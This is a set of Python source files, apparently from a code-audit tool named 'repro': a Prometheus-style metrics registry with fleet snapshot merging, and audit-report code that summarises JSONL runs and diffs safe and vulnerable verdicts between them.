        # ``_Metric._samples`` (bucket count lists mutate in place).
        with self._lock:
            series_snapshot = {
                key: (list(counts), total, count)
                for key, (counts, total, count) in self._series.items()
            }
        lines = []
        for key in sorted(series_snapshot):
            counts, total, count = series_snapshot[key]
            for bound, bucket_count in zip(self.buckets, counts):
                lines.append(
                    f"{self.name}_bucket"
                    f"{_render_labels(key, (('le', _format_value(bound)),))} {bucket_count}"
                )
            lines.append(f"{self.name}_bucket{_render_labels(key, (('le', '+Inf'),))} {count}")
            lines.append(f"{self.name}_sum{_render_labels(key)} {_format_value(total)}")
            lines.append(f"{self.name}_count{_render_labels(key)} {count}")
        return lines


class MetricsRegistry:
    """Named metrics with get-or-create accessors and a text snapshot."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._metrics: dict[str, object] = {}

    def _get_or_create(self, name: str, factory, kind: str):
        with self._lock:
            metric = self._metrics.get(name)
            if metric is None:
                metric = self._metrics[name] = factory()
            elif metric.kind != kind:  # type: ignore[attr-defined]
                raise ValueError(
                    f"metric {name!r} already registered as {metric.kind}"  # type: ignore[attr-defined]
                )
        return metric

    def counter(self, name: str, help_text: str = "") -> Counter:
        return self._get_or_create(
            name, lambda: Counter(name, help_text, self._lock), "counter"
        )

    def gauge(self, name: str, help_text: str = "") -> Gauge:
        return self._get_or_create(name, lambda: Gauge(name, help_text, self._lock), "gauge")

    def histogram(
        self, name: str, help_text: str = "", buckets: tuple[float, ...] = DEFAULT_BUCKETS
    ) -> Histogram:
        return self._get_or_create(
            name, lambda: Histogram(name, help_text, self._lock, buckets), "histogram"
        )

    def render(self) -> str:
        """Prometheus text exposition snapshot of every registered metric."""
        lines: list[str] = []
        with self._lock:
            metrics = sorted(self._metrics.items())
        for name, metric in metrics:
            if metric.help:  # type: ignore[attr-defined]
                lines.append(f"# HELP {name} {metric.help}")  # type: ignore[attr-defined]
            lines.append(f"# TYPE {name} {metric.kind}")  # type: ignore[attr-defined]
            lines.extend(metric._samples())  # type: ignore[attr-defined]
        return "\n".join(lines) + ("\n" if lines else "")
