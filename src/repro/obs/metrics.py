"""Metrics registry: counters, gauges, histograms, Prometheus text render.

A tiny, dependency-free subset of the Prometheus client model, enough to
snapshot an audit run::

    registry = MetricsRegistry()
    registry.counter("repro_files_total", "files by outcome").inc(status="ok")
    registry.histogram("repro_file_seconds", "per-file wall time").observe(0.12)
    print(registry.render())

Every metric supports label sets passed as keyword arguments; each
distinct label set keeps its own value.  ``render()`` emits the
Prometheus text exposition format (``# HELP``/``# TYPE`` headers,
``name{label="value"} 1.0`` samples, cumulative histogram buckets with a
``+Inf`` bucket plus ``_sum``/``_count`` series).  All operations are
thread-safe behind one registry lock.

Fleet aggregation: ``MetricsRegistry.snapshot()`` serialises the whole
registry into a JSON-able dict, ``merge_snapshot()`` adds one into
another registry (optionally stamping extra labels such as ``node``),
and ``FleetMetrics`` turns a stream of *cumulative* per-node snapshots
into delta-merged fleet series — tolerant of node restarts (counter
resets) and strict about histogram bucket boundaries.
"""

from __future__ import annotations

import math
import re
import threading

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "FleetMetrics",
    "DEFAULT_BUCKETS",
    "DEFAULT_QUANTILES",
    "PROMETHEUS_CONTENT_TYPE",
    "estimate_quantile",
]

#: Canonical Prometheus text-exposition content type (format version 0.0.4)
#: served by every ``/metrics`` endpoint in the system.
PROMETHEUS_CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

#: Seconds-oriented default histogram buckets (audit files span ~1 ms to minutes).
DEFAULT_BUCKETS = (0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 60.0)

#: Quantiles surfaced as ``_quantile`` gauges by ``render(quantiles=...)``.
DEFAULT_QUANTILES = (0.5, 0.9, 0.99)

LabelKey = tuple[tuple[str, str], ...]

_METRIC_NAME_RE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
_LABEL_NAME_RE = re.compile(r"^[a-zA-Z_][a-zA-Z0-9_]*$")
#: Label names the exposition format claims for itself: user label sets may
#: never carry them or rendered samples become ambiguous/invalid.
_RESERVED_LABELS = frozenset({"le", "quantile"})
_INVALID_LABEL_CHARS = re.compile(r"[^a-zA-Z0-9_]")

# Normalisation cache: _label_key runs on every inc()/observe() so repeated
# label names must not pay the regex cost twice.
_label_name_cache: dict[str, str] = {}


def _validate_metric_name(name: str) -> str:
    if not _METRIC_NAME_RE.match(name):
        raise ValueError(
            f"invalid metric name {name!r}: must match [a-zA-Z_:][a-zA-Z0-9_:]*"
        )
    return name


def _normalize_label_name(name: str) -> str:
    """Map an arbitrary label name onto valid exposition text, or reject it.

    Names that would render as invalid or ambiguous exposition text are
    either normalised (``sat-cache`` -> ``sat_cache``, ``9th`` -> ``_9th``)
    or rejected outright (``le``/``quantile`` are reserved by the format,
    ``__``-prefixed names are reserved by Prometheus internals).
    """
    cached = _label_name_cache.get(name)
    if cached is not None:
        return cached
    if name in _RESERVED_LABELS:
        raise ValueError(f"label name {name!r} is reserved by the exposition format")
    if name.startswith("__"):
        raise ValueError(f"label name {name!r} is reserved (double underscore prefix)")
    normalized = name
    if not _LABEL_NAME_RE.match(normalized):
        normalized = _INVALID_LABEL_CHARS.sub("_", normalized)
        if not normalized or not _LABEL_NAME_RE.match(normalized):
            normalized = "_" + normalized
    _label_name_cache[name] = normalized
    return normalized


def _label_key(labels: dict) -> LabelKey:
    return tuple(
        sorted((_normalize_label_name(str(k)), str(v)) for k, v in labels.items())
    )


def _escape(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _render_labels(key: LabelKey, extra: tuple[tuple[str, str], ...] = ()) -> str:
    items = key + extra
    if not items:
        return ""
    body = ",".join(f'{name}="{_escape(value)}"' for name, value in items)
    return "{" + body + "}"


def _format_value(value: float) -> str:
    if value == math.inf:
        return "+Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


def estimate_quantile(
    bounds: tuple[float, ...], cumulative: list, count: int, q: float
) -> float | None:
    """Bucket-interpolated quantile from cumulative histogram counts.

    Same semantics as PromQL ``histogram_quantile``: linear interpolation
    inside the bucket that contains the target rank, with observations in
    the ``+Inf`` overflow bucket clamped to the highest finite bound.  The
    result is an *estimate* bounded by the bucket layout, not an exact
    order statistic.  Returns ``None`` for an empty series.
    """
    if count <= 0:
        return None
    q = min(max(q, 0.0), 1.0)
    rank = q * count
    prev_bound = 0.0
    prev_cum = 0
    for bound, cum in zip(bounds, cumulative):
        if cum >= rank and cum > prev_cum:
            span = cum - prev_cum
            fraction = (rank - prev_cum) / span if span else 1.0
            return prev_bound + (bound - prev_bound) * min(max(fraction, 0.0), 1.0)
        prev_bound, prev_cum = bound, cum
    return bounds[-1]


class _Metric:
    kind = "untyped"

    def __init__(self, name: str, help_text: str, lock: threading.Lock) -> None:
        self.name = _validate_metric_name(name)
        self.help = help_text
        self._lock = lock
        self._values: dict[LabelKey, float] = {}

    def value(self, **labels) -> float:
        return self._values.get(_label_key(labels), 0.0)

    def _samples(self) -> list[str]:
        # Snapshot under the lock: a scrape concurrent with inc()/set()
        # (e.g. the daemon metrics server during an active cycle) must not
        # iterate a dict another thread is growing.
        with self._lock:
            values = dict(self._values)
        lines = []
        for key in sorted(values):
            lines.append(f"{self.name}{_render_labels(key)} {_format_value(values[key])}")
        return lines

    def _snapshot_samples(self) -> list:
        with self._lock:
            return [[list(map(list, key)), value] for key, value in self._values.items()]

    def _merge_sample(self, key: LabelKey, value: float, *, additive: bool) -> None:
        with self._lock:
            if additive:
                self._values[key] = self._values.get(key, 0.0) + value
            else:
                self._values[key] = float(value)


class Counter(_Metric):
    """Monotonically increasing value per label set."""

    kind = "counter"

    def inc(self, amount: float = 1.0, **labels) -> None:
        if amount < 0:
            raise ValueError("counters can only increase")
        key = _label_key(labels)
        with self._lock:
            self._values[key] = self._values.get(key, 0.0) + amount


class Gauge(_Metric):
    """Set-to-current-value metric per label set."""

    kind = "gauge"

    def set(self, value: float, **labels) -> None:
        with self._lock:
            self._values[_label_key(labels)] = float(value)

    def inc(self, amount: float = 1.0, **labels) -> None:
        key = _label_key(labels)
        with self._lock:
            self._values[key] = self._values.get(key, 0.0) + amount


class Histogram:
    """Cumulative-bucket histogram per label set."""

    kind = "histogram"

    def __init__(
        self,
        name: str,
        help_text: str,
        lock: threading.Lock,
        buckets: tuple[float, ...] = DEFAULT_BUCKETS,
    ) -> None:
        self.name = _validate_metric_name(name)
        self.help = help_text
        self._lock = lock
        self.buckets = tuple(sorted(buckets))
        if not self.buckets:
            raise ValueError("histogram needs at least one bucket bound")
        # label key -> (per-bucket counts, sum, count)
        self._series: dict[LabelKey, list] = {}

    def observe(self, value: float, **labels) -> None:
        key = _label_key(labels)
        with self._lock:
            series = self._series.get(key)
            if series is None:
                series = self._series[key] = [[0] * len(self.buckets), 0.0, 0]
            counts, total, count = series
            for i, bound in enumerate(self.buckets):
                if value <= bound:
                    counts[i] += 1
            series[1] = total + value
            series[2] = count + 1

    def count(self, **labels) -> int:
        series = self._series.get(_label_key(labels))
        return series[2] if series else 0

    def sum(self, **labels) -> float:
        series = self._series.get(_label_key(labels))
        return series[1] if series else 0.0

    def quantile(self, q: float, **labels) -> float | None:
        """Bucket-interpolated quantile estimate for one label set."""
        with self._lock:
            series = self._series.get(_label_key(labels))
            if series is None:
                return None
            counts, _total, count = list(series[0]), series[1], series[2]
        return estimate_quantile(self.buckets, counts, count, q)

    def _snapshot_series(self) -> dict[LabelKey, tuple]:
        # Deep-copy under the lock: bucket count lists mutate in place.
        with self._lock:
            return {
                key: (list(counts), total, count)
                for key, (counts, total, count) in self._series.items()
            }

    def _merge_series(
        self, key: LabelKey, counts: list, total: float, count: int
    ) -> None:
        if len(counts) != len(self.buckets):
            raise ValueError(
                f"histogram {self.name!r}: bucket count mismatch "
                f"({len(counts)} vs {len(self.buckets)})"
            )
        with self._lock:
            series = self._series.get(key)
            if series is None:
                series = self._series[key] = [[0] * len(self.buckets), 0.0, 0]
            for i, delta in enumerate(counts):
                series[0][i] += delta
            series[1] += total
            series[2] += count

    def _samples(self) -> list[str]:
        series_snapshot = self._snapshot_series()
        lines = []
        for key in sorted(series_snapshot):
            counts, total, count = series_snapshot[key]
            for bound, bucket_count in zip(self.buckets, counts):
                lines.append(
                    f"{self.name}_bucket"
                    f"{_render_labels(key, (('le', _format_value(bound)),))} {bucket_count}"
                )
            lines.append(f"{self.name}_bucket{_render_labels(key, (('le', '+Inf'),))} {count}")
            lines.append(f"{self.name}_sum{_render_labels(key)} {_format_value(total)}")
            lines.append(f"{self.name}_count{_render_labels(key)} {count}")
        return lines

    def _quantile_samples(self, quantiles: tuple[float, ...]) -> list[str]:
        series_snapshot = self._snapshot_series()
        lines = []
        for key in sorted(series_snapshot):
            counts, _total, count = series_snapshot[key]
            for q in quantiles:
                estimate = estimate_quantile(self.buckets, counts, count, q)
                if estimate is None:
                    continue
                extra = (("quantile", _format_value(q)),)
                lines.append(
                    f"{self.name}_quantile{_render_labels(key, extra)} "
                    f"{_format_value(estimate)}"
                )
        return lines


def _key_from_snapshot(raw, extra_labels: dict | None) -> LabelKey:
    pairs = {str(name): str(value) for name, value in raw}
    if extra_labels:
        for name, value in extra_labels.items():
            pairs[str(name)] = str(value)
    return _label_key(pairs)


class MetricsRegistry:
    """Named metrics with get-or-create accessors and a text snapshot."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._metrics: dict[str, object] = {}

    def _get_or_create(self, name: str, factory, kind: str):
        _validate_metric_name(name)
        with self._lock:
            metric = self._metrics.get(name)
            if metric is None:
                metric = self._metrics[name] = factory()
            elif metric.kind != kind:  # type: ignore[attr-defined]
                raise ValueError(
                    f"metric {name!r} already registered as {metric.kind}"  # type: ignore[attr-defined]
                )
        return metric

    def counter(self, name: str, help_text: str = "") -> Counter:
        return self._get_or_create(
            name, lambda: Counter(name, help_text, self._lock), "counter"
        )

    def gauge(self, name: str, help_text: str = "") -> Gauge:
        return self._get_or_create(name, lambda: Gauge(name, help_text, self._lock), "gauge")

    def histogram(
        self, name: str, help_text: str = "", buckets: tuple[float, ...] = DEFAULT_BUCKETS
    ) -> Histogram:
        return self._get_or_create(
            name, lambda: Histogram(name, help_text, self._lock, buckets), "histogram"
        )

    def snapshot(self) -> dict:
        """JSON-able cumulative snapshot of every metric in the registry.

        The result survives a JSON round-trip unchanged (tuples become
        lists either way) and is the wire format workers piggyback on
        heartbeat/lease/release requests.
        """
        with self._lock:
            metrics = sorted(self._metrics.items())
        entries = []
        for name, metric in metrics:
            entry = {"name": name, "kind": metric.kind, "help": metric.help}  # type: ignore[attr-defined]
            if metric.kind == "histogram":
                entry["buckets"] = list(metric.buckets)  # type: ignore[attr-defined]
                entry["series"] = [
                    [list(map(list, key)), counts, total, count]
                    for key, (counts, total, count) in metric._snapshot_series().items()  # type: ignore[attr-defined]
                ]
            else:
                entry["samples"] = metric._snapshot_samples()  # type: ignore[attr-defined]
            entries.append(entry)
        return {"version": 1, "metrics": entries}

    def merge_snapshot(
        self,
        snapshot: dict,
        labels: dict | None = None,
        kinds: tuple[str, ...] | None = None,
    ) -> None:
        """Add a snapshot into this registry.

        Counter and histogram samples merge additively (so feeding deltas
        accumulates and feeding disjoint registries unions them); gauges
        are set to the snapshot value.  ``labels`` stamps every merged
        sample with extra labels (e.g. ``{"node": "worker-3"}``);
        ``kinds`` restricts the merge to the listed metric kinds.  Raises
        ``ValueError`` when a histogram arrives with bucket boundaries
        that differ from an already-registered histogram of the same name.
        """
        for entry in snapshot.get("metrics", []):
            kind = entry.get("kind")
            name = entry.get("name")
            if not name or (kinds is not None and kind not in kinds):
                continue
            help_text = entry.get("help", "")
            if kind == "counter":
                metric = self.counter(name, help_text)
                for raw_key, value in entry.get("samples", []):
                    if value:
                        metric._merge_sample(
                            _key_from_snapshot(raw_key, labels), float(value), additive=True
                        )
            elif kind == "gauge":
                metric = self.gauge(name, help_text)
                for raw_key, value in entry.get("samples", []):
                    metric._merge_sample(
                        _key_from_snapshot(raw_key, labels), float(value), additive=False
                    )
            elif kind == "histogram":
                buckets = tuple(entry.get("buckets", ()))
                histogram = self.histogram(name, help_text, buckets=buckets or DEFAULT_BUCKETS)
                if buckets and histogram.buckets != tuple(sorted(buckets)):
                    raise ValueError(
                        f"histogram {name!r}: incompatible bucket boundaries "
                        f"{tuple(sorted(buckets))} vs registered {histogram.buckets}"
                    )
                for raw_key, counts, total, count in entry.get("series", []):
                    histogram._merge_series(
                        _key_from_snapshot(raw_key, labels),
                        list(counts),
                        float(total),
                        int(count),
                    )

    def render(self, quantiles: tuple[float, ...] = ()) -> str:
        """Prometheus text exposition snapshot of every registered metric.

        With ``quantiles``, each histogram additionally exposes
        bucket-interpolated ``<name>_quantile{quantile="0.x"}`` gauges.
        """
        lines: list[str] = []
        with self._lock:
            metrics = sorted(self._metrics.items())
        for name, metric in metrics:
            if metric.help:  # type: ignore[attr-defined]
                lines.append(f"# HELP {name} {metric.help}")  # type: ignore[attr-defined]
            lines.append(f"# TYPE {name} {metric.kind}")  # type: ignore[attr-defined]
            lines.extend(metric._samples())  # type: ignore[attr-defined]
            if quantiles and metric.kind == "histogram":
                quantile_lines = metric._quantile_samples(tuple(quantiles))  # type: ignore[attr-defined]
                if quantile_lines:
                    lines.append(f"# TYPE {name}_quantile gauge")
                    lines.extend(quantile_lines)
        return "\n".join(lines) + ("\n" if lines else "")


class FleetMetrics:
    """Delta-merge cumulative per-node snapshots into one fleet registry.

    Workers ship their whole (cumulative) ``MetricsRegistry`` snapshot on
    every heartbeat/lease/release request.  ``ingest`` diffs each arrival
    against the node's previous snapshot and applies only the delta —
    twice: once stamped with a ``node`` label and once unstamped, so the
    registry simultaneously carries per-node series and fleet-summed
    series under the same metric names.

    A node restart (counter reset: new value below the remembered one) is
    tolerated by treating the new cumulative value as the delta, so fleet
    counters never move backwards.  Histograms arriving with bucket
    boundaries that differ from the node's previous snapshot — or from
    the fleet registry — raise ``ValueError``.
    """

    def __init__(self, registry: MetricsRegistry, node_label: str = "node") -> None:
        self.registry = registry
        self.node_label = node_label
        self._lock = threading.Lock()
        # node -> {metric name -> remembered cumulative state}
        self._last: dict[str, dict] = {}

    def forget(self, node: str) -> None:
        """Drop a node's remembered snapshot (its series stay in the registry)."""
        with self._lock:
            self._last.pop(node, None)

    def ingest(self, node: str, snapshot: dict) -> None:
        with self._lock:
            previous = self._last.get(node, {})
            delta = self._delta(previous, snapshot)
        # Apply outside our lock (registry has its own); per-node first so a
        # bucket-boundary conflict with the registry aborts before any
        # fleet-sum pollution of the unlabelled series.
        self.registry.merge_snapshot(delta, labels={self.node_label: node})
        self.registry.merge_snapshot(delta, kinds=("counter", "histogram"))
        with self._lock:
            self._last[node] = self._remember(snapshot)

    @staticmethod
    def _remember(snapshot: dict) -> dict:
        state: dict[str, dict] = {}
        for entry in snapshot.get("metrics", []):
            name, kind = entry.get("name"), entry.get("kind")
            if not name:
                continue
            if kind == "histogram":
                state[name] = {
                    "kind": kind,
                    "buckets": tuple(entry.get("buckets", ())),
                    "series": {
                        tuple(map(tuple, raw_key)): (list(counts), float(total), int(count))
                        for raw_key, counts, total, count in entry.get("series", [])
                    },
                }
            else:
                state[name] = {
                    "kind": kind,
                    "samples": {
                        tuple(map(tuple, raw_key)): float(value)
                        for raw_key, value in entry.get("samples", [])
                    },
                }
        return state

    @staticmethod
    def _delta(previous: dict, snapshot: dict) -> dict:
        entries = []
        for entry in snapshot.get("metrics", []):
            name, kind = entry.get("name"), entry.get("kind")
            if not name:
                continue
            last = previous.get(name, {})
            if kind == "counter":
                last_samples = last.get("samples", {})
                samples = []
                for raw_key, value in entry.get("samples", []):
                    value = float(value)
                    old = last_samples.get(tuple(map(tuple, raw_key)), 0.0)
                    # Counter reset (node restart): the cumulative value is
                    # itself the progress since the reset.
                    delta = value - old if value >= old else value
                    if delta > 0:
                        samples.append([raw_key, delta])
                if samples:
                    entries.append({**entry, "samples": samples})
            elif kind == "gauge":
                # Gauges are point-in-time: pass the current value through.
                if entry.get("samples"):
                    entries.append(entry)
            elif kind == "histogram":
                buckets = tuple(entry.get("buckets", ()))
                last_buckets = last.get("buckets")
                if last_buckets and buckets and tuple(last_buckets) != buckets:
                    raise ValueError(
                        f"histogram {name!r}: node changed bucket boundaries "
                        f"({tuple(last_buckets)} -> {buckets})"
                    )
                last_series = last.get("series", {})
                series = []
                for raw_key, counts, total, count in entry.get("series", []):
                    counts, total, count = list(counts), float(total), int(count)
                    old = last_series.get(tuple(map(tuple, raw_key)))
                    if old is not None:
                        old_counts, old_total, old_count = old
                        reset = count < old_count or any(
                            new < prev for new, prev in zip(counts, old_counts)
                        )
                        if not reset:
                            counts = [new - prev for new, prev in zip(counts, old_counts)]
                            total = max(total - old_total, 0.0)
                            count = count - old_count
                    if count or any(counts):
                        series.append([raw_key, counts, total, count])
                if series:
                    entries.append({**entry, "series": series})
        return {"version": 1, "metrics": entries}
