"""Audit JSONL consumers: human-readable run summaries and run diffs.

``repro audit --jsonl`` streams one ``{"type": "file", ...}`` record per
file plus a final ``{"type": "stats", ...}`` trailer (see
``repro.engine.jsonl``).  This module turns those streams into:

* :func:`render_report` — verdict/cache tallies, per-file duration
  mean/max, per-stage and solver totals, and the top-N slowest files of
  one run;
* :func:`diff_runs` / :func:`render_diff` — new / fixed / regressed
  classification between two runs of the same corpus (the CI story:
  fail the build when a change introduces vulnerabilities).

Both are exposed through the ``repro report`` subcommand.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

__all__ = [
    "AuditRun",
    "AuditDiff",
    "ReportError",
    "load_audit",
    "render_report",
    "diff_runs",
    "render_diff",
]


class ReportError(Exception):
    """Raised for unreadable or malformed audit streams."""


@dataclass
class AuditRun:
    """One parsed audit JSONL stream."""

    path: str
    files: list[dict] = field(default_factory=list)
    stats: dict | None = None
    #: Per-node ``{"type": "stats", "node": ...}`` trailers from a merged
    #: distributed stream (``repro serve``), keyed by node name.  These
    #: are attribution detail, never the run-level tally.
    node_stats: dict[str, dict] = field(default_factory=dict)
    #: True when the stream carries no stats trailer (interrupted before
    #: PR 2's in-``finally`` trailer, or truncated externally).
    truncated: bool = False

    def by_filename(self) -> dict[str, dict]:
        """Last record per filename (re-audits supersede earlier lines)."""
        return {record["filename"]: record for record in self.files}


def _is_vulnerable(record: dict) -> bool:
    return record.get("status") == "ok" and record.get("safe") is False


def _is_safe(record: dict) -> bool:
    return record.get("status") == "ok" and record.get("safe") is True


def load_audit(path: str | Path) -> AuditRun:
    """Parse an audit JSONL file, tolerating a truncated final line."""
    path = Path(path)
    try:
        text = path.read_text()
    except OSError as exc:
        raise ReportError(f"cannot read {path}: {exc}") from exc
    run = AuditRun(path=str(path))
    lines = text.splitlines()
    for lineno, line in enumerate(lines, start=1):
        if not line.strip():
            continue
        try:
            record = json.loads(line)
        except ValueError as exc:
            # A killed writer can leave one torn final line; anything
            # torn earlier means the file is not an audit stream.
            if lineno == len(lines):
                run.truncated = True
                continue
            raise ReportError(f"{path}:{lineno}: invalid JSON: {exc}") from exc
        if not isinstance(record, dict):
            raise ReportError(f"{path}:{lineno}: expected a JSON object")
        kind = record.get("type")
        if kind == "file":
            if "filename" not in record:
                raise ReportError(f"{path}:{lineno}: file record without filename")
            run.files.append(record)
        elif kind == "stats":
            # Merged distributed streams (repro serve) interleave one
            # per-node trailer per worker before the global trailer; a
            # node trailer must never masquerade as the run's stats.
            if record.get("node") is not None:
                run.node_stats[str(record["node"])] = record
            else:
                run.stats = record
    if run.stats is None:
        run.truncated = True
    return run


def _tally(records: list[dict]) -> dict[str, int]:
    tally = {"safe": 0, "vulnerable": 0, "failed": 0, "cached": 0}
    for record in records:
        if _is_safe(record):
            tally["safe"] += 1
        elif _is_vulnerable(record):
            tally["vulnerable"] += 1
        else:
            tally["failed"] += 1
        if record.get("cached"):
            tally["cached"] += 1
    return tally


def _sum_dicts(records: list[dict], key: str) -> dict[str, float]:
    totals: dict[str, float] = {}
    for record in records:
        payload = record.get(key)
        if not isinstance(payload, dict):
            continue
        for name, value in payload.items():
            if isinstance(value, (int, float)) and not isinstance(value, bool):
                totals[name] = totals.get(name, 0) + value
    return totals


def render_report(run: AuditRun, top: int = 10) -> str:
    """Human-readable summary of one audit run."""
    records = run.files
    tally = _tally(records)
    lines = [f"audit report — {run.path}"]
    if run.truncated:
        lines.append("warning: stream has no stats trailer (truncated or interrupted run)")
    stats = run.stats or {}
    if stats.get("interrupted"):
        lines.append("warning: run was interrupted before completion")
    total = stats.get("total", len(records))
    wall = stats.get("wall_seconds")
    header = f"files: {len(records)}/{total} audited"
    if isinstance(wall, (int, float)):
        header += f" in {wall:.2f}s"
    lines.append(header)
    lines.append(
        f"verdicts: {tally['safe']} safe, {tally['vulnerable']} vulnerable, "
        f"{tally['failed']} failed"
    )
    lines.append(
        f"cache: {tally['cached']} hit(s), {len(records) - tally['cached']} miss(es)"
    )

    durations = [
        r["duration"]
        for r in records
        if isinstance(r.get("duration"), (int, float))
        and not isinstance(r.get("duration"), bool)
    ]
    # Guarded: a trailer-only or fully-drained stream has no durations,
    # and the mean must not divide by zero.
    if durations:
        lines.append(
            f"per-file duration: mean {sum(durations) / len(durations):.3f}s, "
            f"max {max(durations):.3f}s"
        )

    failures = [r for r in records if r.get("status") != "ok"]
    if failures:
        by_status: dict[str, int] = {}
        for record in failures:
            by_status[record["status"]] = by_status.get(record["status"], 0) + 1
        parts = ", ".join(f"{count} {status}" for status, count in sorted(by_status.items()))
        lines.append(f"failures: {parts}")

    stage_totals = _sum_dicts(records, "timings")
    if stage_totals:
        stage_text = ", ".join(
            f"{stage} {seconds:.2f}s" for stage, seconds in sorted(stage_totals.items())
        )
        lines.append(f"stage time: {stage_text}")

    if run.node_stats:
        parts = ", ".join(
            f"{node} ({trailer.get('files', '?')} file(s))"
            for node, trailer in sorted(run.node_stats.items())
        )
        lines.append(f"nodes: {parts}")

    solver_totals = _sum_dicts(records, "solver")
    if solver_totals:
        order = ("solve_calls", "decisions", "propagations", "conflicts",
                 "learned_clauses", "restarts", "preprocessed_clauses",
                 "lbd_deletions", "cache_hits", "cache_misses")
        parts = [
            f"{int(solver_totals[name])} {name.replace('_', ' ')}"
            for name in order
            if name in solver_totals
        ]
        if parts:
            lines.append("solver: " + ", ".join(parts))

    slowest = sorted(
        (r for r in records if isinstance(r.get("duration"), (int, float))),
        key=lambda r: r["duration"],
        reverse=True,
    )[: max(0, top)]
    if slowest:
        lines.append(f"slowest {len(slowest)} file(s):")
        for record in slowest:
            verdict = (
                "vulnerable"
                if _is_vulnerable(record)
                else ("safe" if _is_safe(record) else record.get("status", "?"))
            )
            lines.append(f"  {record['duration']:9.3f}s  {record['filename']}  [{verdict}]")
    return "\n".join(lines)


@dataclass
class AuditDiff:
    """File-level classification between two runs of the same corpus."""

    #: Vulnerable in the new run, absent from the old one.
    new_vulnerable: list[str] = field(default_factory=list)
    #: Vulnerable before, verified safe now.
    fixed: list[str] = field(default_factory=list)
    #: Present in both, not vulnerable before, vulnerable now.
    regressed: list[str] = field(default_factory=list)
    #: Analyzable before (status ok), failed now — a tooling regression.
    broken: list[str] = field(default_factory=list)
    #: Failed before, analyzable now.
    recovered: list[str] = field(default_factory=list)
    #: Present only in the old run.
    removed: list[str] = field(default_factory=list)
    #: Present only in the new run and not vulnerable.
    added: list[str] = field(default_factory=list)
    still_vulnerable: int = 0

    @property
    def has_regressions(self) -> bool:
        return bool(self.new_vulnerable or self.regressed)


def diff_runs(old: AuditRun, new: AuditRun) -> AuditDiff:
    """Classify per-file verdict movement from ``old`` to ``new``."""
    old_by_name = old.by_filename()
    new_by_name = new.by_filename()
    diff = AuditDiff()
    for name in sorted(set(old_by_name) | set(new_by_name)):
        before = old_by_name.get(name)
        after = new_by_name.get(name)
        if after is None:
            diff.removed.append(name)
            continue
        if before is None:
            if _is_vulnerable(after):
                diff.new_vulnerable.append(name)
            else:
                diff.added.append(name)
            continue
        if _is_vulnerable(before) and _is_vulnerable(after):
            diff.still_vulnerable += 1
        elif _is_vulnerable(after):
            diff.regressed.append(name)
        elif _is_vulnerable(before) and _is_safe(after):
            diff.fixed.append(name)
        if before.get("status") == "ok" and after.get("status") != "ok":
            diff.broken.append(name)
        elif before.get("status") != "ok" and after.get("status") == "ok":
            diff.recovered.append(name)
    return diff


def render_diff(old: AuditRun, new: AuditRun, diff: AuditDiff) -> str:
    """Human-readable new / fixed / regressed listing."""
    lines = [f"audit diff — {old.path} → {new.path}"]
    for run in (old, new):
        if run.truncated:
            lines.append(f"warning: {run.path} has no stats trailer (truncated run)")

    def section(title: str, names: list[str]) -> None:
        lines.append(f"{title}: {len(names)}")
        for name in names:
            lines.append(f"  {name}")

    section("new vulnerable file(s)", diff.new_vulnerable)
    section("regressed (safe → vulnerable)", diff.regressed)
    section("fixed (vulnerable → safe)", diff.fixed)
    if diff.broken:
        section("broken (analyzed → failed)", diff.broken)
    if diff.recovered:
        section("recovered (failed → analyzed)", diff.recovered)
    if diff.added:
        lines.append(f"added file(s): {len(diff.added)}")
    if diff.removed:
        lines.append(f"removed file(s): {len(diff.removed)}")
    lines.append(f"still vulnerable: {diff.still_vulnerable}")
    verdict = "REGRESSIONS FOUND" if diff.has_regressions else "no regressions"
    lines.append(f"result: {verdict}")
    return "\n".join(lines)
