"""Audit JSONL consumers: human-readable run summaries and run diffs.

``repro audit --jsonl`` streams one ``{"type": "file", ...}`` record per
file plus a final ``{"type": "stats", ...}`` trailer (see
``repro.engine.jsonl``).  This module turns those streams into:

* :func:`render_report` — verdict/cache tallies, per-file duration
  mean/max, per-stage totals and bucket-interpolated p50/p90/p99
  latency, the fleet-wide slow-query table, and the top-N slowest files
  of one run;
* :func:`summarize_run` — the same summary as a machine-readable dict
  (``repro report --json``);
* :func:`diff_runs` / :func:`render_diff` — new / fixed / regressed
  classification between two runs of the same corpus (the CI story:
  fail the build when a change introduces vulnerabilities).

All are exposed through the ``repro report`` subcommand.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

from repro.obs.ledger import SlowQueryLedger
from repro.obs.metrics import MetricsRegistry

__all__ = [
    "AuditRun",
    "AuditDiff",
    "ReportError",
    "load_audit",
    "render_report",
    "summarize_run",
    "stage_quantiles",
    "replay_disagreements",
    "diff_runs",
    "render_diff",
]

#: Pipeline stage order for latency sections (extra stages sort after).
_STAGE_ORDER = ("parse", "filter", "ai", "sat", "replay")

#: Quantiles surfaced in report latency breakdowns.
_REPORT_QUANTILES = (0.5, 0.9, 0.99)


class ReportError(Exception):
    """Raised for unreadable or malformed audit streams."""


@dataclass
class AuditRun:
    """One parsed audit JSONL stream."""

    path: str
    files: list[dict] = field(default_factory=list)
    stats: dict | None = None
    #: Per-node ``{"type": "stats", "node": ...}`` trailers from a merged
    #: distributed stream (``repro serve``), keyed by node name.  These
    #: are attribution detail, never the run-level tally.
    node_stats: dict[str, dict] = field(default_factory=dict)
    #: True when the stream carries no stats trailer (interrupted before
    #: PR 2's in-``finally`` trailer, or truncated externally).
    truncated: bool = False

    def by_filename(self) -> dict[str, dict]:
        """Last record per filename (re-audits supersede earlier lines)."""
        return {record["filename"]: record for record in self.files}

    def slow_queries(self, top: int | None = None) -> list[dict]:
        """Fleet-wide hardest SAT queries, most expensive first.

        Sources, in preference order (never mixed, so nothing double
        counts): node-attributed ledgers from per-node stats trailers of
        a merged distributed stream; the global trailer's ledger; and —
        for truncated streams with no trailer at all — the per-file
        ``slow_queries`` record fields.  An empty-ledger trailer is a
        valid (empty) answer, not a fallback trigger.
        """
        ledger = SlowQueryLedger(capacity=max(top or 0, 64))
        node_trailers = [
            trailer
